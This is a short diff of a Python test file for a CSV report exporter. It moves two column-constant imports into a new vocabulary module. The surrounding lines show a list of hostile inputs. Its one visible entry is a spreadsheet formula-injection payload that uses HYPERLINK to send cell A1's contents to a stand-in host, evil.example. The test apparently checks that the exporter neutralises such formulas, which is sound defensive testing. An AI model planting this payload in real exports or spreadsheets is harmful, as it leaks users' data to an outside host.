@@ -8,7 +8,8 @@ import io
 import pytest
 
 from shared.reports.definitions import report_csv
-from shared.reports.service import MISSING_SUBNET_COLUMNS, POOR_USER_COLUMNS, to_csv
+from shared.reports.service import to_csv
+from shared.reports.vocabulary import MISSING_SUBNET_COLUMNS, POOR_USER_COLUMNS
 
 HOSTILE = [
     '=HYPERLINK("http://evil.example/?x="&A1,"click")',
